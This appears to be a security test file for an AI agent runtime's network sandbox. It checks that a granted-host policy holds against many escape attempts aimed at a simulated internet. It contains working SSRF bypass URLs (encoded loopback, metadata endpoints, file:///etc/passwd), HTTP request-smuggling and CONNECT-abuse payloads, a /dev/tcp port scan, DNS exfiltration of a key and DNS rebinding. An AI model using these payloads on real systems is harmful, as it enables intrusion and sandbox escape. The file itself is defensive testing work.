"""Access to hosts without a grant: directly, through the proxy of a grant, and through the runtime.

The internet is the outer sandbox's: a second network with addresses of the real one, and a program that plays all of it
and remembers who came.
"""

from __future__ import annotations

import asyncio
import os
import socket
import threading
from collections.abc import AsyncGenerator, Iterable
from contextlib import asynccontextmanager
from typing import Any

from tests.attacks.case import Case, Probe, breach, python, shell
from tests.attacks.internet import ALLOWED, arrived
from tests.attacks.outer import NotApplicable
from tests.attacks.victim import AgreeingUser, VictimHome, said_by

from handrail import Runtime, tool
from handrail.contract.approval_requests import ApprovalAnswer, ApprovalRequest
from handrail.contract.session_protocols import Session

_GRANTED = f"{ALLOWED}:80"
_GRANTS = [_GRANTED, "rebinding.example:8888", "metadata.example:80", "private.example:80", "inside.example:8888"]
_AGENT = "[requires.tools.bash.net]\nhosts = [" + ", ".join(f'"{host}"' for host in _GRANTS) + "]\n"
_RULES = [f"allow net.fetch {host}" for host in _GRANTS]

FORBIDDEN_URLS = (
    "http://other.example/", "http://93.184.216.35/", "http://93.184.216.34/", "http://allowed.example:8022/", "http://allowed.example:443/",
    "https://other.example/", "http://127.0.0.1:8888/", "http://localhost:8888/", "http://[::1]:8888/", "http://2130706433:8888/",
    "http://0x7f.1:8888/", "http://0177.0.0.1:8888/", "http://127.1:8888/", "http://①②⑦.0.0.1:8888/", "http://１２７.0.0.1:8888/",
    "http://0:8888/", "http://0.0.0.0:8888/", "http://[::ffff:127.0.0.1]:8888/", "http://[64:ff9b::7f00:1]:8888/", "http://[2002:7f00:1::]:8888/",
    "http://169.254.169.254/latest/meta-data/", "http://metadata.example/latest/meta-data/", "http://10.11.12.13/", "http://private.example/",
    "http://inside.example:8888/", "http://allowed.example@other.example/", "http://allowed.example:80@other.example/",
    "http://user:pass@allowed.example/", "http://other.example#@allowed.example/", "http://other.example?@allowed.example/",
    "http://other.example\\@allowed.example/", "http://allowed.example\\.other.example/", "http://allowed.example.other.example/",
    "http://evilallowed.example/", "http://allowed.example%2eother.example/", "http://allowed.example%00.other.example/", "http://allowed.example\0.other.example/",
    "http://allowed.example\r\nHost: other.example\r\n\r\n/", "http://allowed.example /", "http://аllowed.example/", "http://ALLOWED.EXAMPLE:8022/",
    "file:///etc/passwd", "file://allowed.example/etc/passwd", "gopher://allowed.example/_x", "ftp://allowed.example/", "dict://allowed.example:80/x",
    "data:text/plain,x", "//other.example/", "http:/\\other.example/", "http:///other.example/", "http://other.example./", "http://.allowed.example/",
    "http://allowed.example/redirect?to=http%3A%2F%2Fother.example%2F", "http://allowed.example/redirect?to=http%3A%2F%2F169.254.169.254%2F",
    "http://allowed.example/redirect?to=http%3A%2F%2F127.0.0.1%3A8888%2F", "http://allowed.example/redirect?to=%2F%2Fother.example%2F",
    "http://allowed.example/redirect?to=file%3A%2F%2F%2Fetc%2Fpasswd", "http://allowed.example/redirect?to=http%3A%2F%2Fallowed.example%3A8022%2F",
)  # fmt: skip


def _need_internet() -> None:
    if not os.environ.get("OUTER_INTERNET"):
        raise NotApplicable("no second network can be made here to play the internet")


def _elsewhere(log: Iterable[str]) -> list[str]:
    """Return the connections to other hosts than the granted one, without DNS queries for granted names."""
    good = ("web allowed.example", "name allowed.example", "name rebinding.example", "name metadata.example", "name private.example",
            "name inside.example", "body ")  # fmt: skip
    return [line for line in log if not line.startswith(good)]


@tool(id="fetch", side_effect="external", requires={"net": {"hosts": _GRANTS}})
async def fetch(url: str, runtime: Runtime, headers: dict[str, str] | None = None) -> dict[str, Any]:
    """Fetch a URL."""
    answer = await runtime.net.request("GET", url, headers=headers or {}, max_bytes=1 << 20, timeout_ms=4_000)
    return {
        "url": answer.url,
        "status": answer.status,
        "body": answer.body.decode("latin-1")[:200],
        "size": len(answer.body),
    }


@asynccontextmanager
async def _granted(home: VictimHome) -> AsyncGenerator[tuple[Session, list[str]]]:
    """A session whose bash and whose fetch tool have one host, and who connects to the machine's own port 8888 meanwhile."""
    _need_internet()
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 8888)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, whom = server.accept()
                except OSError:
                    return
                came.append(str(whom))
                connection.close()

        threading.Thread(target=accept, daemon=True).start()
        async with home.kernel(name="net", agent=_AGENT, tools=[fetch], rules=[*_RULES, "allow fetch"]) as kernel:
            session = await kernel.session(approval_handler=AgreeingUser())
            good = await session.call("fetch", {"url": f"http://{ALLOWED}/hello"})
            if "hello from allowed.example" not in repr(good.data):
                raise RuntimeError(f"the granted host is not reached, so that nothing would be proved: {good!r}"[:600])
            await asyncio.to_thread(arrived)
            yield session, came
        server.shutdown(socket.SHUT_RDWR)


async def _fetched(home: VictimHome) -> str | None:
    async with _granted(home) as (session, came):
        reached: list[str] = []
        for url in FORBIDDEN_URLS:
            result = await session.call("fetch", {"url": url})
            status = result.data.get("status") if isinstance(result.data, dict) else None  # pyright: ignore[reportUnknownVariableType, reportUnknownMemberType]
            if (result.ok and status == 200) or "root:x:" in repr(result):
                reached.append(f"{url!r}: {result!r}"[:200])
        log = await asyncio.to_thread(arrived)
    return breach([*reached, *_elsewhere(log), *came], "reached")


async def _by_program(home: VictimHome) -> str | None:
    """curl in the sandbox, with and without its proxy."""
    async with _granted(home) as (session, came):
        good = said_by(await session.call("bash", {"command": f"curl -sS -m 10 http://{ALLOWED}/hello"}))
        if "hello from allowed.example" not in good:
            return f"the granted host is not reached, so that this proves nothing: {good[:600]!r}"
        put_urls = "\n".join(url for url in FORBIDDEN_URLS if "\0" not in url and "\r" not in url)
        (home.workspace / "urls").write_text(put_urls + "\n")
        (home.workspace / "curls.sh").write_text(_CURLS)
        text = "bash curls.sh"
        said = said_by(await session.call("bash", {"command": text, "timeout_ms": 100_000}))
        (home.workspace / "urls").unlink()
        (home.workspace / "curls.sh").unlink()
        log = await asyncio.to_thread(arrived)
    files = [line for line in said.splitlines() if "REACHED" in line and "file:" not in line and "data:" not in line]
    if "THE-END" not in said:
        return f"the probe did not run to its end: {said[-400:]!r}"
    return breach([*files, *_elsewhere(log), *came], "reached")


_CURLS = """
while IFS= read -r url; do
  for how in -s -L -p -g none; do
    if [ "$how" = none ]; then export no_proxy='*' NO_PROXY='*' option=-s; else unset no_proxy NO_PROXY; option=$how; fi
    code=$(curl -sS -m 4 "$option" -o out -w '%{http_code}' "$url" 2>/dev/null)
    [ "$code" = 200 ] && ! grep -q allowed.example out && echo "REACHED $how $url"
    rm -f out
  done
done < urls
echo THE-END
"""
_TO_PROXY = r"""
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ.get('http_proxy') or os.environ.get('HTTP_PROXY') or 'http://127.0.0.1:3128')
for request in (
    b'CONNECT other.example:80 HTTP/1.1\r\nHost: allowed.example\r\n\r\n',
    b'CONNECT allowed.example:8022 HTTP/1.1\r\n\r\n',
    b'CONNECT allowed.example:443 HTTP/1.1\r\n\r\n',
    b'CONNECT 127.0.0.1:8888 HTTP/1.1\r\n\r\n',
    b'CONNECT [::1]:8888 HTTP/1.1\r\n\r\n',
    b'CONNECT allowed.example:80\r\nCONNECT other.example:80 HTTP/1.1\r\n\r\n',
    b'CONNECT allowed.example\x00.other.example:80 HTTP/1.1\r\n\r\n',
    b'CONNECT allowed.example:80@other.example:80 HTTP/1.1\r\n\r\n',
    b'GET http://other.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n',
    b'GET http://allowed.example/a HTTP/1.1\r\nHost: other.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://other.example/smuggled HTTP/1.1\r\n\r\n',
    b'GET / HTTP/1.1\r\nHost: other.example\r\n\r\n',
    b'GET file:///etc/passwd HTTP/1.1\r\nHost: allowed.example\r\n\r\n',
    b'GET http://allowed.example/b HTTP/1.1\r\nHost: allowed.example\r\nX: y\r\n z\r\n\r\n',
    b'GET http://allowed.example:8022/ HTTP/1.1\r\n\r\n',
    b'POST http://other.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 3\r\n\r\nkey',
    b'\x16\x03\x01\x00\x05hello',
    b'\x05\x01\x00',
    b'\x04\x01\x00\x50\x5d\xb8\xd8\x23\x00',
    b'GET ' + b'A' * 1000000,
):
    try:
        with socket.create_connection((proxy.hostname, proxy.port), timeout=3) as one:
            one.sendall(request)
            one.settimeout(3)
            answer = one.recv(4096)
            if answer[9:12] == b'200' and b'allowed.example' not in answer:
                one.sendall(b'GET / HTTP/1.0\r\n\r\n')
                print('REACHED', request[:80], answer[:80])
    except OSError as error:
        print(type(error).__name__, request[:40])
print('THE-END')
"""


async def _raw_to_the_proxy(home: VictimHome) -> str | None:
    async with _granted(home) as (session, came):
        name = home.probe(_TO_PROXY)
        said = said_by(await session.call("bash", {"command": f"python3 {name}", "timeout_ms": 100_000}))
        log = await asyncio.to_thread(arrived)
    if "THE-END" not in said:
        return f"the probe did not run to its end: {said[-400:]!r}"
    smuggled = [line for line in log if "smuggled" in line]
    return breach(
        [line for line in said.splitlines() if "REACHED" in line] + _elsewhere(log) + smuggled + came, "reached"
    )


async def _rebinding(home: VictimHome) -> str | None:
    """A name with a good address when it is asked first, and this machine's afterwards."""
    async with _granted(home) as (session, came):
        for _ in range(4):
            await session.call("fetch", {"url": "http://rebinding.example:8888/"})
            await session.call("bash", {"command": "curl -sS -m 3 http://rebinding.example:8888/"})
    return breach(came, "the machine's own port was reached")


def _bounded(path: str) -> Probe:
    async def tried(home: VictimHome) -> str | None:
        async with _granted(home) as (session, _):
            async with asyncio.timeout(40):
                result = await session.call("fetch", {"url": f"http://{ALLOWED}{path}"})
        size = result.data.get("size", 0) if isinstance(result.data, dict) else 0  # pyright: ignore[reportUnknownVariableType, reportUnknownMemberType]
        return f"{result!r}"[:400] if isinstance(size, int) and size > 1 << 20 else None

    return tried


class _RefusingHosts(AgreeingUser):
    """A user who approves every call and refuses every host."""

    async def approve(self, request: ApprovalRequest) -> ApprovalAnswer:
        answer = await super().approve(request)
        return ApprovalAnswer("reject") if any(one.startswith("net.fetch") for one in request.targets) else answer


async def _sessions_apart(home: VictimHome) -> str | None:
    """Two sessions of one process: one has a host, the user refuses it to the other, at the same time."""
    _need_internet()
    async with home.kernel(name="net", agent=_AGENT) as kernel:
        with_host = await kernel.session(approval_handler=AgreeingUser(), rules=_RULES)
        without = await kernel.session(agent="default", approval_handler=_RefusingHosts())
        command = {"command": f"curl -sS -m 5 http://{ALLOWED}/hello"}
        one, two = await asyncio.gather(with_host.call("bash", command), without.call("bash", command))
    if "hello from" not in said_by(one):
        return f"the granted host is not reached, so that this proves nothing: {one!r}"[:600]
    return f"{two!r}"[:400] if "hello from" in said_by(two) else None


async def _credentials_stay(home: VictimHome) -> str | None:
    """Credentials for one host are not sent to another after a redirect, even if both are granted."""
    async with _granted(home) as (session, _):
        url = f"http://{ALLOWED}/redirect?to=http%3A%2F%2F{ALLOWED}%3A8022%2F"
        await session.call("fetch", {"url": url, "headers": {"Authorization": "Bearer TOKEN"}})
        log = await asyncio.to_thread(arrived)
    return breach([line for line in log if line.startswith("other ")], "went on")


async def _disjoint(home: VictimHome) -> str | None:
    """Two lists of hosts without a common one are none, not all."""
    _need_internet()
    ceiling = '[ceiling.net]\nhosts = ["nobody.example"]\n'
    async with home.kernel(name="net", agent=_AGENT, rules=_RULES, settings=ceiling) as kernel:
        session = await kernel.session(approval_handler=AgreeingUser())
        await asyncio.to_thread(arrived)
        said = [
            said_by(await session.call("bash", {"command": f"curl -sS -m 4 http://{host}/"}))
            for host in (ALLOWED, "other.example")
        ]
        log = await asyncio.to_thread(arrived)
    return breach([line for line in [*said, *log] if "hello from" in line or line.startswith("web")], "reached")


_DIRECT = """
for address in (('93.184.216.34', 80), ('93.184.216.35', 8022), ('93.184.216.53', 53), ('169.254.169.254', 80), ('10.11.12.13', 80), ('93.184.216.2', 8888)):
    attempt(f'tcp {address}', lambda: socket.create_connection(address, timeout=3).close())
    def datagram():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(2)
            one.sendto(b'\\0' * 12 + b'\\3key\\7example\\0\\0\\1\\0\\1', address)
    attempt(f'udp {address}', datagram)
"""
_LONG = ("raw bytes to the proxy", "slow body")
CASES: list[Case] = [
    python("direct connections", "network", "a program opens a socket by itself", "no address of any kind is reached", _DIRECT),
    shell("names", "network", "a key leaves as the name in a question to a name server", "no name is looked up",
          "getent hosts key.example.other.example && echo REACHED; getent ahostsv4 allowed.example && echo REACHED",),
    shell("the machine's own ports", "network", "services on the loopback interface trust whoever reaches them",
          "the loopback interface is another one", "for p in 22 25 80 631 2375 5432 6379 8080 8888 9229; do "
          "(exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && echo REACHED $p; done", control=False),
    shell("a proxy by variable", "network", "a proxy that is only told of is honour system",
          "the operator's proxy is not handed on, and without it nothing is reached",
          "env | grep -i proxy | grep 8022 && echo REACHED; curl -sS -m 3 -x http://93.184.216.35:8022 http://x/ && echo REACHED",
          control=True),
    *(Case(id, "network", source, expected, tried, slow=id in _LONG) for id, source, expected, tried in (
        ("hosts by the runtime's door", "decimal, octal, hex, fullwidth, userinfo, fragments, backslash, NUL, CRLF, ports, schemes, redirects",
         "nothing but the granted host and port is reached", _fetched),
        ("raw bytes to the proxy", "smuggling, CONNECT to other ports, SOCKS, header folding", "nothing but the granted host is reached", _raw_to_the_proxy),
        ("rebinding", "a name that leads elsewhere the second time", "the checked address is dialled", _rebinding),
        ("sessions with different rights", "one network policy for the whole process", "each call has its own hosts", _sessions_apart),
        ("credentials across hosts", "a redirect takes the token along", "it stays", _credentials_stay),
        ("disjoint lists", "two disjoint lists intersected to the empty one, which meant everything", "nothing", _disjoint),
        ("gzip bomb", "512 MiB in half a MiB", "cut where it was said to be", _bounded("/bomb")),
        ("endless body", "an answer that never ends", "cut where it was said to be", _bounded("/endless")),
        ("slow body", "a byte now and then, for ever", "ended in time", _bounded("/slow")),
    )),
    Case("hosts by a program", "network", "the same addresses by curl, with and without the proxy", "nothing but the granted host is reached",
         _by_program, slow=True),
]  # fmt: skip
